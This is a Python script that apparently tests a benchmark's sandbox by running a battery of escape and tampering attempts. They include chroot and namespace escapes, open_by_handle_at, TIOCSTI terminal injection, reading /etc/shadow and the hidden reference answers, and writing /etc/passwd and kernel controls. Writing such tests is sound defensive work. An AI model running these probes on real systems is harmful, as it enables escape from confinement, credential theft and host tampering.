"""Answers each line with the names of the attacks that succeed, or with "nothing".

Run it in a sandbox only: with rights, some of these attacks change the host.
usage: attack.py BENCH HOME PORT SOCKET PID [ATTACK TO LEAVE OUT …]
"""
import array
import ctypes
import fcntl
import os
import signal
import socket
import stat
import sys

# A path after an @ is none that the command names, which the sandbox would show.
bench, home, port, abstract, pid = (word.removeprefix("@") for word in sys.argv[1:6])
left_out = sys.argv[6:]
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND, MNT_DETACH, NEWNS, NEWUSER = 32, 4096, 2, 0x20000, 0x10000000
KEYCTL, ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}.get(os.uname().machine, (250, 248))


def content(*paths):
    for path in paths:
        try:
            if open(path, "rb").read(1):
                return True
        except OSError:
            pass
    return False


def opens(mode, *paths):
    for path in paths:
        try:
            os.close(os.open(path, mode))
            return True
        except OSError:
            pass
    return False


def processes():
    return [name for name in os.listdir("/proc") if name.isdigit()]


def below(folder):
    return (os.path.join(at, name) for at, _, names in os.walk(folder) for name in names)


def mounts():
    return [line.split()[4] for line in open("/proc/self/mountinfo")][::-1]


reference = f"{bench}/tiny.de"


def reads_reference(): return content(reference)
def reads_objects(): return content(*below(f"{bench}/.git"))
def reads_records(): return content(f"{bench}/out/run.json", f"{bench}/out/records.jsonl")
def reads_rival(): return content(f"{bench}/rival/weights")
def reads_campaign(): return content(f"{bench}/campaign.toml")
def reads_home(): return content(f"{home}/secret", os.path.expanduser("~/secret"))
def reads_passwords(): return content("/etc/shadow", "/etc/ssl/private/ssl-cert-snakeoil.key", os.path.expanduser("~root/.bashrc"))


def reads_through_a_process():
    ways = [f"/proc/{name}/{way}" for name in processes() for way in (f"root{reference}", "cwd/tiny.de")]
    return content(*ways)


def reads_an_environment():
    return any(b"HOST_SECRET" in open(f"/proc/{name}/environ", "rb").read() for name in processes())


def finds_a_host_descriptor():
    links = (f"/proc/{name}/fd/{fd}" for name in processes() for fd in os.listdir(f"/proc/{name}/fd"))
    return any(os.readlink(link).startswith((bench, "/dev/pts")) for link in links)


def sees_the_bench(): return os.path.exists(f"/proc/{pid}")
def unmounts(): return any(libc.umount2(at.encode(), MNT_DETACH) == 0 for at in mounts())
def remounts(): return any(libc.mount(None, at.encode(), None, MS_REMOUNT | MS_BIND, None) == 0 for at in mounts())
def binds(): return libc.mount(b"/usr", b"/tmp", None, MS_BIND, None) == 0


def escapes_by_a_namespace_of_its_own():
    if libc.unshare(NEWUSER | NEWNS) != 0:
        return False
    return unmounts() or content(reference) or writes()


def enters_a_namespace():
    def entered(name, kind):
        return libc.setns(os.open(f"/proc/{name}/ns/{kind}", os.O_RDONLY), 0) == 0 and content(reference)
    return any(entered(name, kind) for name in processes() for kind in ("user", "mnt"))


def leaves_a_root():
    root = os.open("/", os.O_DIRECTORY)
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
    os.fchdir(root)
    for _ in range(64):
        os.chdir("..")
    return content("." + reference)


def opens_by_handle():
    handle = array.array("I", [8, 1, 2, 0])  # the root of a file system of type ext
    at = os.open("/usr", os.O_RDONLY)
    return libc.open_by_handle_at(at, handle.buffer_info()[0], os.O_RDONLY) >= 0


def makes_a_device():
    os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
    return opens(os.O_RDONLY, "/tmp/disk")


def opens_a_device(): return opens(os.O_RDONLY, "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg")


def types_into_the_terminal():
    for path in ["/dev/tty", "/proc/self/fd/2"]:
        try:
            fcntl.ioctl(os.open(path, os.O_RDWR), 0x5412, b"x")  # TIOCSTI
            return True
        except OSError:
            pass
    return False


def finds_a_socket(): return any(stat.S_ISSOCK(os.lstat(path).st_mode) for at in ("/run", "/var/run", "/tmp") for path in below(at))


def reaches_an_abstract_socket():
    socket.socket(socket.AF_UNIX).connect("\0" + abstract)
    return True


def reaches_the_host():
    socket.create_connection(("127.0.0.1", int(port)), 1)
    return True


def sets_the_kernel():
    return opens(os.O_WRONLY, "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
                 "/sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", "/sys/kernel/uevent_helper")


def lowers_its_peak(): return opens(os.O_WRONLY, "/proc/self/clear_refs")


def writes():
    # A folder below /tmp is the launch's own. The host shows whether a file got there.
    for at in (bench, home, os.path.expanduser("~")):
        opens(os.O_CREAT | os.O_WRONLY, f"{at}/written")
    made = [f"{at}/written" for at in ("/usr", "/etc", "/usr/bin", "/var", "/run", "/sys", "/")]
    return opens(os.O_CREAT | os.O_WRONLY, *made) or opens(os.O_WRONLY, "/etc/passwd", "/usr/bin/env")


def raises_its_priority():
    try:
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
        return True
    except OSError:
        return os.nice(-5) < 0


def keeps_a_key():
    session, user = ctypes.c_long(-3), ctypes.c_long(-4)
    found = [libc.syscall(KEYCTL, 10, ring, b"user", b"dyno-attack", 0) > 0 for ring in (session, user)]
    for ring in (session, user):
        libc.syscall(ADD_KEY, b"user", b"dyno-attack", b"memo", 4, ring)
    return any(found)


def keeps_a_file():
    kept = [f"{at}/dyno-attack" for at in ("/tmp", "/dev/shm", "/dev", "/var/tmp", os.path.expanduser("~"))]
    found = content(*kept)
    for path in kept:
        try:
            open(path, "w").write("memo")
        except OSError:
            pass
    return found


def keeps_a_segment():
    found = libc.shmget(0xD1A0, 4096, 0o600) >= 0
    libc.shmget(0xD1A0, 4096, 0o1600)
    return found


def attempted(attack):
    """Whether the attack succeeds, in a process of its own."""
    child = os.fork()
    if child == 0:
        signal.alarm(5)
        try:
            os._exit(0 if attack() else 1)
        except BaseException:
            os._exit(1)
    return os.waitpid(child, 0)[1] == 0


VERBS = ("reads_", "finds_", "sees_", "unmounts", "remounts", "binds", "escapes_", "enters_", "leaves_", "opens_",
         "makes_", "types_", "reaches_", "sets_", "lowers_", "writes", "raises_", "keeps_")
attacks = [attack for name, attack in list(globals().items()) if name.startswith(VERBS) and name not in left_out]
found = " ".join(attack.__name__ for attack in attacks if attempted(attack)) or "nothing"
print(f"{len(attacks)} attacks: {found}", file=sys.stderr)
for line in sys.stdin:
    print(found, flush=True)
